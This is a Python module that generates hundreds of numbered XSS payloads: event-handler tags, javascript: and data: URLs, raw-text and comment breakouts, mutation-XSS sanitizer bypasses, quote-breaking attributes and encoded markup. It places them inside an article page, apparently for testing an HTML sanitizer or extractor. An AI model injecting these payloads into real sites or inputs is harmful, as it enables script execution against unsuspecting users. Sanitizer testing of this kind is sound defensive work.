"""Markup that tries to run, of all the kinds that collections of such markup know; made by code.

Every vector calls `alert` with its own number where it can. `vectors()` gives them by name.
"""

from collections.abc import Iterator
from itertools import count

RUN = "alert(%d)"
IMG = f"<img src=x onerror={RUN}>"


def vectors() -> dict[str, str]:
    """All vectors, numbered."""
    numbers = count()
    found: dict[str, str] = {}
    for kind, made in _KINDS.items():
        for at, vector in enumerate(made()):
            found[f"{kind} {at}"] = vector.replace("%d", str(next(numbers)))
    return found


# Event handlers


_HANDLED = (
    "img src=x onerror", "img src=/a.png onload", "svg onload", "svg/onload", "body onload", "body onpageshow", "body onhashchange",
    "video src=x onerror", "video autoplay onloadstart src=x", "audio src=x onerror", "audio oncanplay src=x", "input autofocus onfocus",
    "input onblur autofocus", "select autofocus onfocus", "textarea autofocus onfocus", "button autofocus onfocus",
    "keygen autofocus onfocus", "details open ontoggle", "marquee onstart", "marquee loop=1 width=0 onfinish", "iframe onload", "iframe src=x onload",
    "object data=x onerror", "embed src=x onload", "link rel=stylesheet href=x onerror", "style onload", "script src=x onerror",
    "a href=/a onmouseover", "a href=/a onclick", "a tabindex=0 autofocus onfocus", "div tabindex=1 autofocus onfocus", "div onmouseenter",
    "div contenteditable autofocus onfocus", "div onpointerrawupdate", "div onwheel", "div oncopy", "div style='animation:x' onanimationstart",
    "div style='transition:color 1s' ontransitionend", "p onclick", "p onpointerover", "li onclick", "ul onscroll", "ol start=3 onclick", "td onclick",
    "th onclick", "table onclick", "tr onclick", "caption onclick", "h1 onclick", "h2 onclick", "blockquote onclick", "pre onclick", "code onclick",
    "strong onclick", "em onclick", "del onclick", "sup onclick", "figure onclick", "figcaption onclick", "summary onclick", "dl onclick",
    "dd onclick", "hr onclick", "br onclick", "form onsubmit", "form oninput", "fieldset onclick", "label onclick", "meter onclick",
    "progress onclick", "output onclick", "dialog open onclose", "dialog open oncancel", "template onclick", "slot onslotchange", "canvas onclick",
    "map onclick", "area onclick", "math onclick", "mi onclick", "x-y onclick", "custom-element onconnected", "html onload", "head onload",
    "frameset onload", "isindex onfocus autofocus", "bgsound onload", "image src=x onerror", "nobr onclick", "xss autofocus tabindex=1 onfocus",
    "div popover onbeforetoggle", "div hidden=until-found onbeforematch", "video onloadeddata", "source onerror", "track onerror",
)  # fmt: skip


def _handlers() -> Iterator[str]:
    for start in _HANDLED:
        name = start.split()[0].split("/")[0]
        yield f"<{start}={RUN}>x</{name}>"
    for between in ("/", "\t", "\n", "\f", "\r", " \x0b ", "//", "/ /", "\x00", "\x1f", "&#10;", "\u00a0", "\u2028"):
        yield f"<img{between}src=x{between}onerror={RUN}>"
    for quoted in (
        f'"{RUN}"',
        f"'{RUN}'",
        f"`{RUN}`",
        f'"{RUN}',
        f" = {RUN}",
        "&#97;lert(%d)",
        "\\u0061lert(%d)",
        "alert`%d`",
        "'al'+'ert'(%d)",
    ):
        yield f"<img src=x onerror={quoted}>x"
    for name in (
        "onerror",
        "ONERROR",
        "oNeRrOr",
        "on\x00error",
        "onerror\x00",
        "\x00onerror",
        "onerror\x0b",
        "x/onerror",
        "ſrc=y onerror",
    ):
        yield f"<img src=x {name}={RUN}>"


# Addresses


_JAVASCRIPT = (
    "javascript:alert(%d)", "JaVaScRiPt:alert(%d)", "JAVASCRIPT:alert(%d)", " javascript:alert(%d)", "\tjavascript:alert(%d)",
    "java\tscript:alert(%d)", "java\nscript:alert(%d)", "java\rscript:alert(%d)", "javascript\t:alert(%d)", "javascript:\nalert(%d)",
    "\x01javascript:alert(%d)", "\x1fjavascript:alert(%d)", "\x00javascript:alert(%d)", "java\x00script:alert(%d)", "\u00a0javascript:alert(%d)",
    "\u2028javascript:alert(%d)", "\ufeffjavascript:alert(%d)", "\u3000javascript:alert(%d)", "java&Tab;script:alert(%d)",
    "java&NewLine;script:alert(%d)", "javascript&colon;alert(%d)", "javascript&#58;alert(%d)", "javascript&#x3a;alert(%d)",
    "&#106;avascript:alert(%d)", "&#x6A;avascript:alert(%d)", "&#0000106avascript:alert(%d)", "&#x000006avascript:alert(%d)",
    "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(%d)", "&#1;javascript:alert(%d)", "&#14; javascript:alert(%d)",
    "java&#9;script:alert(%d)", "java&#x0A;script:alert(%d)", "java&#x0D;script:alert(%d)", "j&#97;vascript&#58;alert(%d)",
    "javascript://example.com/%%0aalert(%d)", "javascript:/*x*/alert(%d)", "//javascript:alert(%d)", "javascript:%61lert(%d)",
    "\\javascript:alert(%d)", "./javascript:alert(%d)", "x:javascript:alert(%d)", "http:javascript:alert(%d)", "feed:javascript:alert(%d)",
    "view-source:javascript:alert(%d)", "jar:javascript:alert(%d)!/", "vbscript:alert(%d)", "livescript:alert(%d)", "mocha:alert(%d)",
    "data:text/html,<script>alert(%d)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:TEXT/HTML,<svg onload=alert(%d)>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(%d)'/>", "data:,alert(%d)", "data:text/javascript,alert(%d)",
    "data:application/xml,<x xmlns='http://www.w3.org/1999/xhtml' onclick='alert(%d)'/>", "blob:https://example.com/x", "filesystem:https://example.com/x",
    "file:///etc/passwd", "ftp://example.com/x", "about:blank", "ws://example.com/", "intent:x", "ms-its:x", "chrome://settings", "steam:x",
    "\uff4aavascript:alert(%d)", "javascript\uff1aalert(%d)", "java\u0338script:alert(%d)", "\u0338javascript:alert(%d)", "java\u200bscript:alert(%d)",
    "java\u00adscript:alert(%d)", "tel:javascript:alert(%d)", "mailto:x@y?body=<script>alert(%d)</script>",
)  # fmt: skip
_ADDRESSED = (
    'a href="{}"', 'area href="{}"', 'img src="{}"', 'img srcset="{} 1x, {} 2x"', 'img data-src="{}"', 'img lowsrc="{}"', 'img dynsrc="{}"',
    'img longdesc="{}"', 'img usemap="{}"', 'iframe src="{}"', 'frame src="{}"', 'embed src="{}"', 'object data="{}"', 'applet code="{}"',
    'form action="{}"', 'button formaction="{}"', 'input type=image formaction="{}"', 'input type=image src="{}"', 'isindex action="{}"',
    'base href="{}//"', 'link rel=stylesheet href="{}"', 'link rel=import href="{}"', 'script src="{}"', 'video poster="{}"', 'video src="{}"',
    'audio src="{}"', 'source src="{}"', 'source srcset="{}"', 'track src="{}"', 'body background="{}"', 'table background="{}"', 'td background="{}"',
    'blockquote cite="{}"', 'q cite="{}"', 'del cite="{}"', 'ins cite="{}"', 'html manifest="{}"', 'meta http-equiv=refresh content="0;url={}"',
    'meta http-equiv=refresh content="0; URL=\'{}\'"', 'a ping="{}" href="/a"', 'a xlink:href="{}"', 'bgsound src="{}"', 'layer src="{}"',
    'portal src="{}"', 'command icon="{}"', 'menuitem icon="{}"', 'head profile="{}"', 'param name=src value="{}"', 'img style="background:url({})"',
    'div style="background:url(\'{}\')"', 'div style="-moz-binding:url({})"', 'div style="behavior:url({})"', 'a href="/a" target="{}"',
)  # fmt: skip
_FOREIGN_ADDRESSED = (
    '<svg><a xlink:href="{}"><text y=20>x</text></a></svg>', '<svg><a href="{}"><circle r=40></circle></a></svg>', '<svg><use href="{}#x"/></svg>',
    '<svg><image href="{}"/></svg>', '<svg><script href="{}"></script></svg>', '<svg><script xlink:href="{}"/></svg>',
    '<svg><a><animate attributeName=href values="{}"/><text y=20>x</text></a></svg>', '<svg><a><set attributeName=href to="{}"/><text>x</text></a></svg>',
    '<svg><animate xlink:href=#x attributeName=href from="{}" to=1 /><a id=x><text>x</text></a></svg>', '<svg><feImage xlink:href="{}"/></svg>',
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>alert(%d)</handler></svg>', '<math href="{}">x</math>',
    '<math><mi xlink:href="{}">x</mi></math>', '<math><maction actiontype="statusline#{}" xlink:href="{}">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><a href="{}">x</a></annotation-xml></math>', '<a href="/a"><math><mtext><a href="{}">x</a></mtext></math></a>',
)  # fmt: skip


def _addresses() -> Iterator[str]:
    for address in _JAVASCRIPT:
        yield f"<a href='{address}'>x</a> <img src='{address}' alt=x>".replace("''", "'")
    for start in _ADDRESSED:
        name = start.split()[0]
        yield f"<{start.replace('{}', 'javascript:alert(%d)')}>x</{name}>"
    for whole in _FOREIGN_ADDRESSED:
        yield whole.replace("{}", "javascript:alert(%d)")


# Text that breaks out of where it stands


_RAW = (
    "noscript",
    "style",
    "title",
    "textarea",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "plaintext",
    "script",
    "template",
    "select",
    "option",
    "listing",
)


def _breakouts() -> Iterator[str]:
    for tag in _RAW:
        yield f"<{tag}>{IMG}</{tag}>x"
        yield f'<{tag}><p title="</{tag}>{IMG}">x</p></{tag}>'
        yield f"<svg><{tag}>{IMG}</{tag}></svg>x"
        yield f"<math><mtext><{tag}>{IMG}</{tag}></mtext></math>x"
        yield f"&lt;{tag}&gt;<b title='&lt;/{tag}&gt;{IMG}'>x</b>&lt;/{tag}&gt;&lt;img src=x onerror={RUN}&gt;"


def _comments() -> Iterator[str]:
    for opening in (
        "<!--",
        "<!-->",
        "<!--->",
        "<!",
        "<!x",
        "</",
        "</ ",
        "<?",
        "<?xml ",
        "<![CDATA[",
        "<!DOCTYPE x [",
        "<!--[if gte IE 4]>",
        "<%",
        "<!-- --!>",
        "<!--\x00",
    ):
        for closing in ("-->", ">", "--!>", "]]>", "?>", ""):
            yield f"{opening}{IMG}{closing}x"
    for inside in ("svg", "math", "desc", "foreignObject"):
        yield f"<{inside}><![CDATA[{IMG}]]></{inside}>x"
        yield f"<{inside}><!--{IMG}--></{inside}>x"
    yield f"<script><!--<script></script>--></script>{IMG}"
    yield f"<svg><script><!--</script>{IMG}--></script></svg>x"


_MUTATION = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(%d)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(%d)>",
    "<math><mtext><table><mglyph><style><math><table id='</table><img src onerror=alert(%d)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(%d)>'>",
    "<svg><p><style><g title='</style><img src onerror=alert(%d)>'>",
    "<svg><style><img src=x onerror=alert(%d)></style></svg>",
    "<svg><style>&lt;img src=x onerror=alert(%d)&gt;</style></svg>",
    "<svg><desc><style><a title='</style><img src onerror=alert(%d)>'></desc></svg>",
    "<svg><foreignObject><math><mtext><style><a title='</style><img src onerror=alert(%d)>'></foreignObject></svg>",
    "<math><annotation-xml encoding='text/html'><style><a title='</style><img src onerror=alert(%d)>'></annotation-xml></math>",
    "<math><annotation-xml><foreignobject><style><img src onerror=alert(%d)></style></foreignobject></annotation-xml></math>",
    "<math><mi><mglyph><style><!--</style><img src onerror=alert(%d)>--></mglyph></mi></math>",
    "<math><mo><malignmark><style><img src onerror=alert(%d)></style></malignmark></mo></math>",
    "<table><math><select><mglyph><style><img src onerror=alert(%d)></style></select></math></table>",
    "<select><template><style><img src=x onerror=alert(%d)></style></template></select>",
    "<select><option><style></option></select><img src=x onerror=alert(%d)></style>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(%d)>'>x",
    "<noscript><style><a title='</noscript><img src onerror=alert(%d)>'>x",
    "<p title='</p><img src onerror=alert(%d)>'><b></p></b>",
    "<table><caption><svg><p><style><a id='</style><img src onerror=alert(%d)>'></caption></table>",
    "<a><table><a href=javascript:alert(%d)>x</table>",
    "<b><i><a href=/a><table><a href='javascript:alert(%d)'>x</table></b>",
    "<form id=a><div></form><form id=b><input name=attributes><img src onerror=alert(%d)></form>",
    "<form><input name=parentNode><img src=x onerror=alert(%d)></form>",
    "<img name=getElementById><img name=cookie><a id=body onclick=alert(%d)>x</a>",
    "<dfn><svg><p><title><style></title><img src onerror=alert(%d)></style></dfn>",
    "<svg><title><style><a title='</style></title><img src onerror=alert(%d)>'></svg>",
    "<frameset><frame src=javascript:alert(%d)></frameset>",
    "<isindex type=image src=1 onerror=alert(%d)>",
    "<image/src/onerror=alert(%d)>",
    "<<script>alert(%d);//<</script>",
    "<scr<script>ipt>alert(%d)</scr</script>ipt>",
    "<script>alert(%d)</script>", "<script >alert(%d)</script >", "<SCRIPT/x>alert(%d)</SCRIPT/x>", "<script\x00>alert(%d)</script>",
    "<\x00script>alert(%d)</script>", "<scr\x00ipt>alert(%d)</scr\x00ipt>", "<script>alert(%d)", "<script type=module>alert(%d)</script>",
    "<script type=text/plain>alert(%d)</script>", "<script src=data:,alert(%d)></script>", "<script async src=//example.com/x></script>",
    "<iframe srcdoc='<script>alert(%d)</script>'></iframe>", "<iframe srcdoc='&lt;img src=x onerror=alert(%d)&gt;'></iframe>",
    "<iframe srcdoc='&amp;lt;script&amp;gt;alert(%d)&amp;lt;/script&amp;gt;'></iframe>",
    "<div><template shadowrootmode=open><img src=x onerror=alert(%d)></template>x</div>",
    "<div><template shadowrootmode=closed><script>alert(%d)</script></template>x</div>",
    "<x-foo><template><script>alert(%d)</script></template></x-foo>", "<p is=x-foo onclick=alert(%d)>x</p>",
    "<style>@import 'javascript:alert(%d)';</style>", "<style>*{background:url('javascript:alert(%d)')}</style>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=alert(%d)>x</p>",
    "<p style='x:expression(alert(%d))'>x</p>", "<p style='width:e/**/xpression(alert(%d))'>x</p>", "<xss style='behavior:url(x.htc)'>x</xss>",
    "<link rel=stylesheet href='data:,*{x:expression(alert(%d))}'>", "<object data='data:text/html,<script>alert(%d)</script>'></object>",
    "<object><param name=src value='javascript:alert(%d)'></object>", "<embed src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<math><maction actiontype=toggle onclick=alert(%d)>x</maction></math>", "<svg><animate onbegin=alert(%d) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(%d) attributeName=x to=1>", "<svg><discard onbegin=alert(%d)>", "<svg><view onclick=alert(%d)></svg>",
    "<svg><foreignObject><iframe onload=alert(%d)></foreignObject></svg>", "<svg><a><rect onclick=alert(%d) width=9 height=9 /></a></svg>",
    "<svg><style>{font-family:'<iframe/onload=alert(%d)>'}</style></svg>", "<svg xmlns='x' onload=alert(%d)>x</svg>",
    "<html xmlns:xss><?import namespace=xss implementation=x.htc><xss:xss onclick=alert(%d)>x</xss:xss>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(%d)</x:script>", "<h:img xmlns:h='http://www.w3.org/1999/xhtml' src=x onerror=alert(%d)>",
    "<a href=/a style=position:fixed;inset:0 onclick=alert(%d)>x</a>", "<a href='https://evil.example/' target=_blank rel=opener id=alert(%d)>x</a>",
    "<form action=javascript:alert(%d)><input type=submit value=x></form>", "<button form=x formaction=javascript:alert(%d)>x</button>",
    "<input type=image src=x onerror=alert(%d)>", "<label for=x onclick=alert(%d)>x</label>", "<textarea autofocus onfocus=alert(%d)>x",
    "<keygen autofocus onfocus=alert(%d)>", "<video><source onerror=alert(%d)></video>", "<audio><track onload=alert(%d)></audio>",
    "<picture><source srcset='x' onerror=alert(%d)><img src=x onerror=alert(%d)></picture>", "<map name=m><area href=javascript:alert(%d)></map>",
    "<img src=/a.png usemap=#m onclick=alert(%d)>", "<marquee behavior=alternate onbounce=alert(%d)>x</marquee>",
    "<portal src=javascript:alert(%d)></portal>", "<fencedframe src=javascript:alert(%d)></fencedframe>", "<bgsound src=javascript:alert(%d)>",
    "<base href=javascript:alert(%d)//><a href=/x>x</a>", "<base target=alert(%d)><a href=/x>x</a>", "<meta charset=utf-7>+ADw-script+AD4-alert(%d)+ADw-/script+AD4-",
    "<meta http-equiv=set-cookie content=alert(%d)>", "<meta http-equiv=Content-Security-Policy content=alert(%d)>", "<meta http-equiv=refresh content=0;javascript:alert(%d)>",
    "<dialog open><form method=dialog><button onclick=alert(%d)>x</button></form></dialog>", "<details open ontoggle=alert(%d)><summary>x</summary>y</details>",
    "<table><tr><td><table><tbody><img src=x onerror=alert(%d)></table>", "<ul><li><script>alert(%d)</script></ul>",
    "<pre><code><img src=x onerror=alert(%d)></code></pre>", "<pre>\n\n<script>alert(%d)</script></pre>", "<ruby><rt><img src=x onerror=alert(%d)></ruby>",
)  # fmt: skip


def _mutations() -> Iterator[str]:
    yield from _MUTATION


# Attributes that break out of their quotes


def _attributes() -> Iterator[str]:
    ends = (
        '"',
        "'",
        '">',
        "'>",
        "`",
        '" ',
        '\\"',
        "&quot;",
        "&#34;",
        "&quot;&gt;",
        '\u0338"',
        '\x00"',
        '\n"',
        "]]>",
        "--&gt;",
    )
    places = (
        "<p>x <img src=/a.png alt={}> y</p>", "<p><a href={}>x</a></p>", "<p><img src={} alt=x> y</p>", "<pre><code class={}>x</code></pre>",
        "<table><tr><td colspan={}>x<td>y<tr><td>z<td>w</table>", "<ol start={}><li value={}>x</ol>", "<p class={} id={} lang={} title={}>x</p>",
        "<math alttext={}><mi>x</mi></math>", "<blockquote cite={}>x</blockquote>", "<time datetime={}>x</time>",
    )  # fmt: skip
    for end in ends:
        broken = f"language-x{end} onmouseover={RUN} autofocus onfocus={RUN} x={end}"
        quote = "'" if '"' in end else '"'
        for place in places:
            yield place.replace("{}", f"{quote}{broken.replace(quote, '&#39;')}{quote}")


# Text that looks like markup


def _texts() -> Iterator[str]:
    shown = f"&lt;img src=x onerror={RUN}&gt;"
    for before in (
        "",
        "\u0338",
        "\u0301",
        "\u20d2",
        "\ufe0f",
        "\u200d",
        "\u034f",
        "\u00ad",
        "&#x338;",
        "\u1161",
        "\ufeff",
        "\U000e0001",
        "\u202e",
    ):
        yield f"<p>{before}{shown}</p>"
        yield f"<p>{before} onfocus={RUN} tabindex=1 autofocus x</p><p>a<b>{before}=x onclick={RUN} </b></p>"
        yield f"<p><a href='/{before}a'>{before} onclick={RUN}</a></p><ul><li>{before}&gt; onclick={RUN}</ul>"
    for written in (shown, f"&amp;lt;img src=x onerror={RUN}&amp;gt;", f"&#60;img src=x onerror={RUN}&#62;", f"&#x3c;svg onload={RUN}&#x3e;",
                    f"&LT;script&GT;{RUN}&LT;/script&GT;", f"&lt;/p&gt;&lt;/div&gt;{shown}", f"&lt;/script&gt;{shown}", f"&lt;!--{shown}--&gt;", f"]]&gt;{shown}",
                    f"&lt;style&gt;{shown}", f"&lt;textarea&gt;{shown}", f"&lt;title&gt;{shown}&lt;/title&gt;", f"&lt;svg&gt;&lt;style&gt;{shown}",
                    f"＜script＞{RUN}＜/script＞", f"\u2039script\u203a{RUN}", f"{{{{constructor.constructor('{RUN}')()}}}}", f"${{{RUN}}}", f"<%= {RUN} %>",
                    f"{RUN}", f"javascript:{RUN}", "&lt;\x00img src=x onerror=alert(%d)&gt;", "&lt;img src=x onerror=alert(%d)//", "&lt;x\u0338 onclick=alert(%d)&gt;"):  # fmt: skip
        yield f"<p>{written}</p>"
        yield f"<p><code>{written}</code> <b>{written}</b></p><h2>{written}</h2><pre>{written}</pre>"


_KINDS = {
    "handler": _handlers,
    "address": _addresses,
    "breakout": _breakouts,
    "comment": _comments,
    "mutation": _mutations,
    "attribute": _attributes,
    "text": _texts,
}

# Where in an article a vector stands.
PLACES = (
    "<p>before</p>{}<p>after</p>", "<p>before {} after</p>", "<ul><li>{}<li>after</ul>", "<ol><li>before<ul><li>{}</ul></ol>",
    "<blockquote>before {}</blockquote>", "<table><tr><th>a<th>b<tr><td>{}<td>after</table>", "<table><tr><th>{}<th>b<tr><td>c<td>d</table>",
    "<h2>before {}</h2>", "<pre>before {}</pre>", "<p>before <code>{}</code></p>", "<p><a href='/a'>before {}</a></p>", "<p><strong>{}</strong></p>",
    "<figure><img src=/i.png alt=i><figcaption>{}</figcaption></figure>", "<dl><dt>{}<dd>{}</dl>", "<details open><summary>{}</summary>{}</details>",
    "<table><caption>{}</caption><tr><th>a<th>b<tr><td>c<td>d</table>", "<div><section><div>{}</div></section>tail</div>", "<p>before<br>{}<br>after</p>",
)  # fmt: skip
ARTICLE = "<title>A page</title><article><h1>A page</h1><p>Words before it.</p>{}<p>Words after it.</p></article>"


def embedded(vector: str, place: int) -> str:
    """A page with an article that has the vector at one of the places."""
    return ARTICLE.replace("{}", PLACES[place % len(PLACES)].replace("{}", vector))
